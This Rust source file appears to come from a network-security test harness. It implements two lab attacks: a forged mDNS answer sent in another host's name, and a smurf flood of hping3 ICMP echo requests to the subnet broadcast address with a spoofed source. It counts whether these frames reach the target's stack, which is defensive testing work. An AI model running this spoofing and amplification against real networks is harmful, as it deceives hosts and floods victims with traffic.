//! Attacks 53 and 54: frames to a group in another's name, as service discovery believes them, and as a smurf needs them.

use crate::attack::injection::UDP_PROGRAM;
use crate::attack::scene::{Finding, Scene, count};
use crate::failure::Failure;
use crate::net::lan::INTERFACE;
use crate::net::{Frame, process};

const MDNS_MAC: &str = "01:00:5e:00:00:fb";
const MDNS: &str = "224.0.0.251";
const TIMES: &str = "5";

/// Attack 53: an mDNS answer of b, by somebody else.
pub fn forged_discovery(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (b, m) = (scene.host("b")?, scene.host("m")?);
    let token = scene.token("discovery");
    let file = scene.file("payload");
    std::fs::write(&file, &token).map_err(Failure::file("writing", &file))?;
    let window = scene.open()?;
    let addresses = [b.mac.to_string(), MDNS_MAC.to_owned(), b.ip.to_string(), MDNS.to_owned()];
    let rest = ["5353".to_owned(), TIMES.to_owned(), file.to_string_lossy().into_owned()];
    let arguments: Vec<String> = [INTERFACE.to_owned()].into_iter().chain(addresses).chain(rest).collect();
    scene.scapy(&m, UDP_PROGRAM, &arguments)?;
    let record = scene.close(window)?;
    let forged = |frame: &Frame| frame.contains(&token) && frame.ipv4_source() == Some(b.ip);
    let taken = count(&record.inside, forged);
    Ok(Finding {
        reached: taken > 0,
        harmless: taken == 0,
        struck: count(&record.wire, forged),
        said: format!("{taken} answers of m reached a's stack in b's name"),
        record,
    })
}

/// Attack 54: echo requests to all in b's name, whom the answers are to bury.
pub fn smurf(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (b, m) = (scene.host("b")?, scene.host("m")?);
    let network = b.ip.octets();
    let all = std::net::Ipv4Addr::new(network[0], network[1], network[2], 255).to_string();
    let window = scene.open()?;
    let mut hping = m.namespace.command("hping3");
    hping.args(["--icmp", "-q", "-c", TIMES, "-i", "u100000", "-a", &b.ip.to_string(), &all]);
    // Nobody answers, which hping3 calls a failure.
    process::ask(hping, &[])?;
    let record = scene.close(window)?;
    let request = |frame: &Frame| frame.ipv4_source() == Some(b.ip) && frame.destination().is_broadcast();
    let taken = count(&record.inside, request);
    Ok(Finding {
        reached: taken > 0,
        harmless: taken == 0,
        struck: count(&record.wire, request),
        said: format!("{taken} echo requests to all reached a's stack in b's name"),
        record,
    })
}
